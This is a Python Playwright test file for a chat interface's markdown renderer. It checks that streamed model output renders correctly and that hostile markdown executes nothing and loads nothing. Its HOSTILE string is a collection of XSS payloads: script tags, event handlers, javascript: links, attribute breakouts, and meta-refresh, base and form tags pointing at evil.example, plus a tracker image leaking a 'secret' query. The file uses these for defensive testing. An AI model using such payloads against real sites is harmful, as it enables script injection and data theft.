"""What a model writes, shown as markdown: hostile or not, it runs nothing, loads nothing, and nothing of it is lost."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import pytest

from tests.browser.fake_provider import FakeProvider
from tests.browser.stage import ask, open_page, wait_for_the_end
from tests.fleet import Fleet

if TYPE_CHECKING:
    from playwright.sync_api import Page

HOSTILE = r"""
<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2"><svg onload="window.pwned = 3"></svg>
<iframe srcdoc="<script>parent.pwned = 4</script>"></iframe><style>body { display: none }</style>

[click](javascript:window.pwned=5) [click]( javascript:window.pwned=6) [click](JaVaScRiPt&colon;window.pwned=7)
[a](<javascript:window.pwned=8>) [a](java	script:window.pwned=9) <javascript:window.pwned=10>
[b](data:text/html,<script>window.pwned=11</script>) [c](vbscript:x) [d](//evil.example) [e](/api/streams) [f](#x)

![tracker](https://evil.example/tracker.png?q=secret) ![x](javascript:window.pwned=12)
![x](x"onerror="window.pwned=13) [x](https://ok.example/"onmouseover="window.pwned=14)
[good](https://ok.example/a?b=c) <mailto:someone@ok.example> https://plain.example/x

```"><script>window.pwned=15</script>
</code></pre><script>window.pwned = 16</script>
```

# <img src=x onerror=window.pwned=17>

| <script>window.pwned=18</script> | [h](javascript:window.pwned=19) |
| --- | --- |
| <img src=x onerror=window.pwned=20> | `</td><script>window.pwned=21</script>` |

> <b onclick=window.pwned=22>x</b>
> - <a href="javascript:window.pwned=23">x</a>

<meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/">
<form action=https://evil.example/><input name=q><button>Stop</button></form>
""" + "".join(map(chr, [0, 1, 0x202E, 0x2028, 0xFEFF, 0xFFFD]))

NICE = """# Rivers

Three **long** ones, by [their lengths](https://rivers.example/):

| River | Length |
| :-- | --: |
| Nile | 6650 km |
| Amazon | 6400 km |

1. first
2. second
   - inner

```python
def length(river: str) -> int:
    return 6650
```

> *so it is said*

- [x] done
- [ ] to do
"""


def answer(page: Page, fleet: Fleet, provider: FakeProvider, written: str, model: str = "gpt-6.2-sol") -> None:
    provider.text = written
    open_page(page, fleet, model)
    ask(page, "Which rivers are the longest?")
    wait_for_the_end(page)
    kept = page.evaluate("JSON.parse(sessionStorage.getItem('tokenrelay.turns')).at(-1).text")
    assert kept == written


@pytest.mark.parametrize("chunk", [1, 7, 10_000])
def test_hostile_markdown_runs_nothing_and_loads_nothing(
    page: Page, fleet: Fleet, provider: FakeProvider, chunk: int
) -> None:
    asked: set[str] = set()
    page.on("request", lambda request: asked.add(urlsplit(request.url).netloc))
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    provider.chunk = chunk
    answer(page, fleet, provider, HOSTILE)
    article = page.get_by_role("article")
    kinds = set(article.evaluate("(article) => [...article.querySelectorAll('*')].map((made) => made.localName)"))
    assert kinds <= {
        "p", "a", "div", "button", "pre", "code", "span", "h3", "table", "thead", "tbody", "tr", "th", "td",
        "blockquote", "ul", "li", "em", "strong", "del",
    }, kinds  # fmt: skip
    attributes = article.evaluate(
        "(article) => [...article.querySelectorAll('*')].flatMap((made) => made.getAttributeNames())"
    )
    known = {"class", "href", "target", "rel", "tabindex", "role", "aria-label", "title", "type", "scope", "start"}
    assert set(attributes) <= known | {"data-language"}
    links: list[Any] = article.locator("a").evaluate_all("(links) => links.map(({ href, rel }) => [href, rel])")
    assert {urlsplit(href).scheme for href, _ in links} == {"https", "mailto"}
    assert all("noopener" in rel for _, rel in links)
    for link in article.locator("code, th, td, li, h3").all():
        link.hover()
    assert page.evaluate("window.pwned") is None
    assert page.title() == "Tokenrelay"
    assert asked <= {urlsplit(fleet.urls[0]).netloc, ""}


def test_markdown_is_shown_as_what_it_means(page: Page, fleet: Fleet, provider: FakeProvider) -> None:
    provider.chunk = 3
    answer(page, fleet, provider, NICE)
    article = page.get_by_role("article")
    assert article.get_by_role("heading", name="Rivers").count() == 1
    assert article.get_by_role("link", name="their lengths").get_attribute("href") == "https://rivers.example/"
    rows = article.get_by_role("row").all_inner_texts()
    assert [row.split("\t") for row in rows] == [["River", "Length"], ["Nile", "6650 km"], ["Amazon", "6400 km"]]
    assert article.locator("ol > li").count() == 2
    assert article.locator("ol ul > li").text_content() == "inner"
    assert article.locator("code").text_content() == "def length(river: str) -> int:\n    return 6650\n"
    assert article.locator("blockquote em").text_content() == "so it is said"
    assert article.locator("li.task").count() == 2


def test_what_comes_bit_by_bit_looks_like_what_comes_at_once(page: Page, fleet: Fleet) -> None:
    page.goto(fleet.urls[0])
    long = "word " * 2_500 + "\n\n" + "- item\n  more\n" * 400 + "\n```js\n" + "let a = 1;\n" * 700 + "```\n"
    wrong = page.evaluate(
        """async (texts) => {
          const { Markdown } = await import("/static/markdown.js");
          const { Rendering } = await import("/static/rendering.js");
          const draw = (text, size) => {
            const [article, markdown] = [document.createElement("article"), new Markdown()];
            const rendering = new Rendering(article);
            for (let at = 0; at < text.length; at += size) rendering.show(markdown.append(text.slice(at, at + size)));
            article.normalize();
            return article.outerHTML;
          };
          const wrong = [];
          for (const text of texts) {
            const whole = draw(text, text.length);
            for (const size of text.length > 5000 ? [37, 1000] : [1, 2, 5, 11]) {
              const drawn = draw(text, size);
              if (drawn !== whole) wrong.push([size, text.slice(0, 20), drawn.slice(0, 400)]);
            }
          }
          return wrong;
        }""",
        [NICE, HOSTILE, long],
    )
    assert wrong == []


def test_what_has_settled_is_not_drawn_again(page: Page, fleet: Fleet) -> None:
    """Only the last block or two of a long answer are touched when more of it comes."""
    page.goto(fleet.urls[0])
    touched = page.evaluate(
        """async () => {
          const { Markdown } = await import("/static/markdown.js");
          const { Rendering } = await import("/static/rendering.js");
          const [article, markdown] = [document.createElement("article"), new Markdown()];
          const rendering = new Rendering(article);
          for (let n = 0; n < 300; n++) rendering.show(markdown.append(`Paragraph ${n}, *again*.\\n\\n`));
          const settled = [...article.children].slice(0, -3);
          const blocks = new Set();
          const watcher = new MutationObserver(() => {});
          watcher.observe(article, { childList: true, subtree: true, characterData: true, attributes: true });
          for (let n = 0; n < 50; n++) rendering.show(markdown.append("and so on "));
          for (const { target } of watcher.takeRecords()) {
            for (const block of settled) if (block.contains(target)) blocks.add(block);
          }
          return [article.children.length, blocks.size];
        }"""
    )
    assert touched == [301, 0]


def test_neuroswitch_says_why_it_chose(page: Page, fleet: Fleet, provider: FakeProvider) -> None:
    provider.chunk = 30
    answer(page, fleet, provider, NICE, "neuroswitch")
    card = page.locator("details.chosen")
    assert (card.locator("summary").text_content() or "").startswith("NeuroSwitch chose ")
    card.locator("summary").click()
    reasons = card.locator("ul.reasons > li").all_inner_texts()
    assert reasons
    assert all(reasons)
    page.reload()
    assert page.locator("details.chosen ul.reasons > li").all_text_contents() == reasons
